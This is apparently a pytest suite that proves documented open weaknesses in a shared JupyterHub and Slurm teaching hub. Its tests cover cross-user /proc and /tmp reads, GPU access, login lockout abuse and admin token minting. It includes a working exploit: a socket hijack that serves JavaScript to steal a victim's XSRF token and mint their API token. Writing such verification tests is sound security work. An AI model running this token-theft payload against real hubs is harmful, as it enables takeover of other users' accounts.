"""hub/SECURITY.md, what is not closed: each attack is shown to work, so that the sentence is known to be true."""

import os
import subprocess
import time
from pathlib import Path

import namespaces
import people
import pytest
import requests
from log_in_limits import WRONG
from people import attack

ENCLOSED = Path(os.environ.get("RINGTREE_HUB", "hub"), "server", "enclosed")


def test_names_of_processes_are_seen_and_no_secret_is_among_them(hub, pair):
    victim, attacker, theirs, known = pair
    seen = theirs(f"print(open('/proc/{known['pid']}/cmdline').read())")
    assert "ipykernel" in seen
    secrets = [known["run"](f"import os; print(os.environ[{name!r}])") for name in ("JUPYTERHUB_API_TOKEN", "JPY_API_TOKEN")]
    secrets += [victim.headers()["Authorization"].split()[1], victim.password]
    secrets.append((hub.folder / "private" / "proxy-token").read_text())
    listed = attacker.as_user("ps", "-e", "-ww", "-o", "args").stdout
    assert "jupyterhub-singleuser" in listed and not [each for each in secrets if each in listed]


def test_what_is_loose_in_tmp_can_be_read_and_the_mask_makes_it_tight(hub, pair):
    victim, attacker, theirs, known = pair
    path = f"/tmp/{victim.name}-note"
    try:
        known["run"](f"open({path!r}, 'w').write('mine')")
        assert attack(theirs, f"open({path!r}).read()") == "PermissionError"
        known["run"](f"import os; os.chmod({path!r}, 0o644)")
        assert attack(theirs, f"open({path!r}).read()") == "mine"
    finally:
        os.unlink(path)


def test_a_server_reaches_no_network(hub, pair):
    victim, attacker, theirs, known = pair
    assert theirs("import socket; print([name for _, name in socket.if_nameindex()])") == "['lo']"
    for where in (("192.0.2.1", 80), ("127.0.0.1", hub.port)):
        assert attack(theirs, f"socket.create_connection({where}, 5)") in ("OSError", "ConnectionRefusedError")


def test_over_ssh_a_session_opens_every_gpu_and_a_job_has_more_of_them_and_the_hosts_network(hub, pair):
    victim, attacker, theirs, known = pair
    opens = [f"( : < {path} ) 2>&1 | grep -q 'not permitted' && echo refused;" for path in hub.gpus]
    bare = attacker.as_user("sh", "-c", f"{' '.join(opens)} ( : < {hub.gpus[min(victim.gpus())]} )")
    assert "refused" not in bare.stdout and "No such device" in bare.stderr, (
        bare.stdout + bare.stderr
    )  # opened: no driver answers
    script = f"readlink /proc/self/ns/net; {' '.join(opens)} true"
    told = attacker.by_slurm("srun", "--gres=gpu:2", "--mem=200M", "bash", "-c", script)
    assert told.stdout.count("refused") == len(hub.gpus) - 2, told.stdout + told.stderr
    assert told.stdout.split()[0] == os.readlink("/proc/self/ns/net") != theirs("print(os.readlink('/proc/self/ns/net'))")
    more = attacker.by_slurm("srun", f"--gres=gpu:{len(hub.gpus) - 1}", "--mem=200M", "--immediate=1", "true")
    assert more.returncode != 0, "each server holds one GPU: all but one are not free"


def test_wrong_passwords_are_answered_one_after_the_other(hub, pair):
    victim, attacker, theirs, known = pair
    session = requests.Session()
    session.get(f"{hub.address}/hub/login", timeout=30)
    for number in range(3):
        form = {"username": victim.name, "password": f"guess {number}", "_xsrf": session.cookies.get("_xsrf")}
        assert session.post(f"{hub.address}/hub/login", data=form, timeout=60).status_code == 403
    form["password"] = victim.password
    assert session.post(f"{hub.address}/hub/login", data=form, timeout=60).url.startswith(f"{hub.address}/"), "locked out"
    assert session.get(f"{hub.address}/hub/home", timeout=30).url.endswith("/hub/home")


def test_a_neighbour_sees_that_somebody_works(hub, pair):
    victim, attacker, theirs, known = pair
    spent = f"print(sum(map(int, open('/proc/{known['pid']}/stat').read().rpartition(')')[2].split()[11:13])))"
    before = int(theirs(spent))
    known["run"]("import time; until = time.process_time() + 1\nwhile time.process_time() < until: pass")
    assert int(theirs(spent)) - before >= 50  # hundredths of a second
    assert theirs("import resource; print(resource.getrlimit(resource.RLIMIT_FSIZE)[0])") == "-1", "disk has a limit: say so"


def test_the_login_goes_over_the_wire_as_it_is(hub, pair):
    login = requests.get(f"{hub.address}/hub/login", timeout=30)
    assert login.url.startswith("http://") and not any(cookie.secure for cookie in login.cookies)
    assert "Strict-Transport-Security" not in login.headers


def test_on_ubuntu_only_what_slurm_starts_may_make_namespaces(hub, pair):
    victim, attacker, theirs, known = pair
    if not namespaces.need_leave():
        pytest.skip("here AppArmor refuses nobody a namespace")
    make = ["unshare", "--user", "--map-root-user", "--mount", "true"]
    assert attacker.as_user(*make).returncode != 0
    said = theirs(f"import subprocess; print(subprocess.run({make}, capture_output=True, text=True).stderr)")
    assert "No space left on device" in said  # the limit in `enclosed`, before AppArmor is asked
    over_ssh = attacker.by_slurm("srun", "--gres=none", "--mem=100M", "--time=1", *make)
    assert over_ssh.returncode == 0, over_ssh.stderr


def test_without_namespaces_a_server_does_not_start(hub):
    forbid = 'echo 0 > /proc/sys/user/max_net_namespaces && exec "$@"'
    tried = ["unshare", "--user", "--map-root-user", "sh", "-c", forbid, "sh", ENCLOSED, "echo", "started"]
    told = subprocess.run(tried, capture_output=True, text=True, timeout=30)
    assert told.returncode != 0 and "started" not in told.stdout and "unshare" in told.stderr, told
    allowed = [*namespaces.under_leave(), ENCLOSED, "echo", "started"]
    assert "started" in subprocess.run(allowed, capture_output=True, text=True, timeout=30).stdout


PAGE = """
import os, socket, threading
html = '''HTTP/1.0 200 OK\\r\\nContent-Type: text/html\\r\\n\\r\\n<script>(async () => {
    const home = await (await fetch("/hub/home")).text();
    const xsrf = home.match(/xsrf_token: "([^"]+)"/)[1];
    const made = await fetch("/hub/api/users/VICTIM/tokens?_xsrf=" + encodeURIComponent(xsrf), {
        method: "POST", headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"}, body: "{}"});
    document.title = "got " + made.status + " " + (await made.json()).token;
})().catch(error => document.title = "got nothing: " + error)</script>'''
def serve():
    while True:
        line, _ = trap.accept()
        line.recv(65536); line.sendall(html.replace("VICTIM", name).encode()); line.close()
os.rename(place, place + ".kept")
trap = socket.socket(socket.AF_UNIX); trap.bind(place); os.chmod(place, 0o660); trap.listen()
threading.Thread(target=serve, daemon=True).start()
"""


def test_who_opens_a_page_of_anothers_server_acts_for_its_owner(hub, chromium, pair):
    victim, attacker, theirs, known = pair
    place = str(hub.folder / "run" / attacker.name / "server.sock")
    assert theirs(f"place, name = {place!r}, {victim.name!r}\n{PAGE}") == ""
    try:
        with people.at_the_hub(chromium, victim) as page:
            page.wait_for_selector("#logout")
            time.sleep(3.0)  # the proxy keeps connections to what listened there before: hub/server/connections.cjs
            page.goto(f"{attacker.url}/look")
            page.wait_for_function("document.title.startsWith('got')", timeout=30_000)
            said = page.title()
    finally:
        theirs("os.unlink(place); os.rename(place + '.kept', place)")
    headers = {"Authorization": f"token {said.split()[-1]}"}
    assert requests.get(f"{hub.address}/hub/api/user", headers=headers, timeout=30).json()["name"] == victim.name, said


def test_who_administers_the_hub_has_the_account_of_every_learner(hub, pair):
    victim, attacker, theirs, known = pair
    with people.outsider(hub) as (name, password), people.in_group(hub, name, "ADMINS"):
        session, _ = people.log_in(hub, name, password)
        headers = {"X-XSRFToken": session.cookies.get("_xsrf", path="/hub/"), "Referer": f"{hub.address}/hub/admin"}
        asked = f"{hub.address}/hub/api/users/{victim.name}/tokens"
        token = session.post(asked, headers=headers, json={"note": "mine"}, timeout=30).json()["token"]
        seen = requests.get(f"{victim.url}/api/contents", headers={"Authorization": f"token {token}"}, timeout=30)
        assert seen.status_code == 200 and "content" in seen.json()
        hub.admin.ask("DELETE", f"users/{name}")


def test_who_shares_an_address_and_guesses_at_a_name_keeps_its_owner_out(hub, learners):
    learner = learners(5)
    for _ in range(WRONG):
        assert people.log_in(hub, learner.name, "guessed", "127.0.0.4")[1].status_code == 403
    assert people.log_in(hub, learner.name, learner.password, "127.0.0.4")[1].status_code == 429
    assert people.log_in(hub, learner.name, learner.password, "127.0.0.5")[1].status_code == 200


def test_a_page_of_another_site_logs_a_learner_out(hub, learners):
    learner = learners(1)
    session, _ = people.log_in(hub, learner.name, learner.password)
    session.get(f"{hub.address}/hub/logout", headers={"Sec-Fetch-Site": "cross-site"}, timeout=30)
    assert "/hub/login" in session.get(f"{hub.address}/hub/home", timeout=30).url


def test_each_request_is_an_entry_in_the_hubs_log(hub, learners):
    log = hub.folder / "logs" / "hub.out"
    before = log.stat().st_size
    for _ in range(50):
        requests.get(f"{hub.address}/hub/{'x' * 1000}", timeout=30)
    assert log.stat().st_size - before > 50 * 1000
